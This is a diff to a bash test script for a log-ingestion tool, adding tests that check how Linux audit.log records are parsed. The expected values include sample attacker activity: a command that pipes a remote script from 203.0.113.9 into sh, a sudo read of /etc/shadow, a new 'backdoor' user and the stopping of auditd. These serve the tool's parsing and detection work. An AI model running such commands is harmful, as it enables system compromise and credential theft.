@@ -1,13 +1,13 @@
 #!/usr/bin/env bash
-# syslog edge cases from scripts/gen-syslog-fixtures.py: the year of BSD lines comes from
+# syslog and audit.log edge cases from scripts/gen-hostlog-fixtures.py: the year of BSD lines comes from
 # the file time (New Year rollover, a month later than the file's month is last year),
 # --opt tz for their local time, each header form, and the normalised event vocabulary
 # (docs/formats.md) that analyzers rely on.
 source "$(dirname "$0")/../lib.sh"
-python3 "$ROOT/scripts/gen-syslog-fixtures.py" "$TMP/fx" >/dev/null
+python3 "$ROOT/scripts/gen-hostlog-fixtures.py" "$TMP/fx" >/dev/null
 touch -d '2025-01-02T00:00:00Z' "$TMP/fx/rollover.log"
 touch -d '2025-06-15T12:00:00Z' "$TMP/fx/later.log" "$TMP/fx/variants.log"
-expect_rc ingest_fixtures 0 "$KS" ingest -q "$TMP/c" "$TMP/fx"
+expect_rc ingest_fixtures 0 "$KS" ingest -q "$TMP/c" "$TMP/fx/rollover.log" "$TMP/fx/later.log" "$TMP/fx/variants.log"
 ev() { q "$TMP/c" "SELECT $2 FROM events e JOIN syslog s ON s.event_id = e.id WHERE e.file LIKE '%/$1' AND e.line = $3"; }
 
 expect_eq rollover_december_is_previous_year "$(ev rollover.log e.time 1)" "2024-12-30T23:59:59.000000000Z"
@@ -54,4 +54,24 @@ expect_eq junk_kept_as_error "$(q "$TMP/j" "SELECT count(*) || ' ' || sum(error 
 cp "$TMP/fx/variants.log" "$TMP/data.txt"
 "$KS" ingest -q "$TMP/s" "$TMP/data.txt" >/dev/null 2>&1
 expect_eq sniffed_by_content "$(q "$TMP/s" "SELECT DISTINCT source FROM events")" syslog
+
+# ---- audit.log ------------------------------------------------------------------------
+expect_rc audit_ingest_one_bad_stamp 3 "$KS" ingest -q "$TMP/a" "$TMP/fx/audit.log" "$TMP/fx/audit_enriched.log"
+au() { q "$TMP/a" "SELECT $2 FROM events e JOIN auditd a ON a.event_id = e.id WHERE e.file LIKE '%/$1' AND e.line = $3"; }
+expect_eq audit_time_node_serial "$(au audit.log "e.time || ' ' || e.host || ' ' || a.serial || ' ' || a.key" 1)" "2024-03-07T04:02:16.123000000Z web1 100 exec_watch"
+expect_eq audit_execve_hex_arg "$(au audit.log "a.a2 || '|' || a.cmdline || '|' || a.argc" 2)" "curl -s http://203.0.113.9/x | sh|/bin/sh -c curl -s http://203.0.113.9/x | sh tail|4"
+expect_eq audit_cwd_hex "$(au audit.log "a.cwd" 3)" "/tmp/my dir"
+expect_eq audit_path "$(au audit.log "a.name || ' ' || a.nametype || ' ' || a.inode || ' ' || a.mode" 4)" "/bin/sh NORMAL 131 0100755"
+expect_eq audit_proctitle_nuls_as_spaces "$(au audit.log "a.proctitle" 5)" "/bin/sh -c curl -s http://203.0.113.9/x | sh tail"
+expect_eq audit_proctitle_raw_kept "$(au audit.log "substr(a.proctitle_raw, 1, 8)" 5)" "2F62696E"
+expect_eq audit_execve_chunks_joined "$(au audit.log "a.cmdline" 6)" "python3 AAAAAAAAAAAAAAAAAAAA"
+expect_eq audit_execve_second_record "$(au audit.log "a.serial || ' ' || a.cmdline" 7)" "101 last"
+expect_eq audit_user_login_failed "$(au audit.log "e.action || ' ' || e.src_ip || ' ' || e.outcome || ' ' || a.acct_id" 8)" "login_failed 198.51.100.23 failure 1001"
+expect_eq audit_user_cmd_sudo "$(au audit.log "e.action || ' ' || e.actor || ' ' || e.target || ' ' || a.cwd" 9)" "sudo 1001 cat /etc/shadow /home/eve"
+expect_eq audit_add_user "$(au audit.log "e.action || ' ' || e.actor || ' ' || e.target" 10)" "user_add 1001 backdoor"
+expect_eq audit_login_new_auid "$(au audit.log "e.actor || ' ' || (a.fields ->> '\$.old_auid')" 11)" "1001 4294967295"
+expect_eq audit_service_stop "$(au audit.log "e.action || ' ' || e.target" 12)" "service_stop auditd"
+expect_eq audit_bad_stamp_kept "$(q "$TMP/a" "SELECT line || ' ' || error FROM events WHERE error IS NOT NULL")" "13 audit stamp is not SECONDS.MILLIS:SERIAL"
+expect_eq audit_enriched_names "$(au audit_enriched.log "a.syscall || ' ' || a.syscall_nr || ' ' || e.actor || ' ' || a.uid_name" 1)" "mknod 133 alice root"
+expect_eq audit_enriched_auth "$(au audit_enriched.log "e.action || ' ' || e.actor || ' ' || e.src_ip || ' ' || a.auid_name" 2)" "auth_failure root 203.0.113.50 unset"
 exit 0
